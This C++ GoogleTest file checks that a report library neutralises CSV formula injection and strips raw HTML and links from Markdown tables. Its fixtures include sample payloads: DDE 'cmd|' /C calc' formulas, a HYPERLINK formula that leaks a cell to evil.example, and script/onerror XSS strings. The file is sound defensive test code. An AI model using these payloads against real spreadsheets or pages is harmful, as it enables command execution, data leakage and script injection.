// Labels from other people's configs in the report's files (issue 24, case 10): a CSV cell that a spreadsheet
// would run as a formula (it starts with =, +, -, @, a tab or a carriage return) is neutralised as OWASP's
// "CSV Injection" page recommends (a leading single quote, the cell quoted), while numbers such as -1.25 or
// +4.22 stay numbers; and a Markdown table carries no raw HTML and no link. The CSV is read back with Python's
// csv module (an RFC 4180 reader independent of kdbench).
#include <gtest/gtest.h>

#include <nlohmann/json.hpp>

#include "reports/table.h"
#include "reports/writers.h"
#include "test_util.h"

namespace {

const std::vector<std::string> kFormulas = {"=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
                                            "+1+cmd|' /C calc'!A0",
                                            "-2+3+cmd|' /C calc'!A0",
                                            "@SUM(1+9)*cmd|' /C calc'!A0",
                                            "\t=1+1",
                                            "\r=1+1",
                                            "=1,2\n3",
                                            "-",
                                            "- 2"};
const std::vector<std::string> kNumbers = {"-1.25", "+4.22", "21.5%", "-8.9%", "1e-05", "-3", "0.000298", "-1.5e+03"};

kd::Table table_of(const std::vector<std::string>& labels) {
  kd::Table t;
  t.name = "hostile";
  t.title = "Hostile labels";
  t.columns = {kd::Column::text("Label"), kd::Column::number("n")};
  for (size_t i = 0; i < labels.size(); ++i) t.add({labels[i], kd::Cell::integer(static_cast<int64_t>(i))});
  return t;
}

TEST(ReportsHostile, CsvCellsThatASpreadsheetWouldRunAreNeutralised) {
  std::vector<std::string> labels = kFormulas;
  labels.insert(labels.end(), kNumbers.begin(), kNumbers.end());
  const std::string dir = kd::test::make_temp_dir("csv");
  kd::test::write_file(dir + "/t.csv", kd::CsvWriter().write(table_of(labels)));
  auto r = kd::test::run_command(
      "python3 -c 'import csv, json, sys; print(json.dumps(list(csv.reader(open(sys.argv[1], "
      "newline=\"\")))))' " +
      dir + "/t.csv");
  ASSERT_EQ(r.exit_code, 0) << r.output;
  const auto rows = nlohmann::json::parse(r.output);
  ASSERT_EQ(rows.size(), labels.size() + 1);
  for (size_t i = 0; i < labels.size(); ++i) {
    SCOPED_TRACE(labels[i]);
    const std::string cell = rows[i + 1][0];
    const bool number = i >= kFormulas.size();
    // "-" alone is no formula (the tables' "none"): it stays as it is, as numbers do.
    EXPECT_EQ(cell, number || labels[i] == "-" ? labels[i] : "'" + labels[i]);
  }
  // Headers are cells too.
  kd::Table t = table_of({"x"});
  t.columns[0].header = "=1+2";
  EXPECT_EQ(kd::CsvWriter().write(t).substr(0, 8), "\"'=1+2\",");
}

TEST(ReportsHostile, MarkdownLabelsCarryNoHtmlAndNoLinks) {
  const std::vector<std::string> labels = {"<img src=x onerror=alert(1)>",
                                           "<script>alert(1)</script>",
                                           "[click](http://evil.example)",
                                           "![x](http://evil.example/t.png)",
                                           "a&lt;b",
                                           "`code`|pipe",
                                           "back\\slash",
                                           "new\nline\rcr"};
  const std::string md = kd::MarkdownWriter().write(table_of(labels));
  EXPECT_EQ(md.find('<'), std::string::npos) << md;
  // Every bracket is escaped (a link or an image needs "[text](url)"), and so is every backslash before it.
  for (size_t i = 0; i < md.size(); ++i)
    if (md[i] == '[' || md[i] == ']') {
      EXPECT_TRUE(i > 0 && md[i - 1] == '\\') << md.substr(i > 8 ? i - 8 : 0, 16);
    }
  EXPECT_NE(md.find("\\[click\\](http://evil.example)"), std::string::npos) << md;
  EXPECT_EQ(md.find("&lt;b"), std::string::npos) << "an entity in a label is shown as written, not decoded\n" << md;
  EXPECT_NE(md.find("&amp;lt;b"), std::string::npos) << md;
  EXPECT_NE(md.find("\\`code\\`\\|pipe"), std::string::npos) << md;
  EXPECT_NE(md.find("back\\\\slash"), std::string::npos) << md;
  // One line per row: 2 of the header, then one per label.
  size_t lines = 0;
  for (char c : md) lines += c == '\n';
  EXPECT_EQ(lines, 2 + 2 + labels.size()) << md;  // "## title", "", header, rule, rows
  EXPECT_EQ(md.find('\r'), std::string::npos) << md;
}

}  // namespace
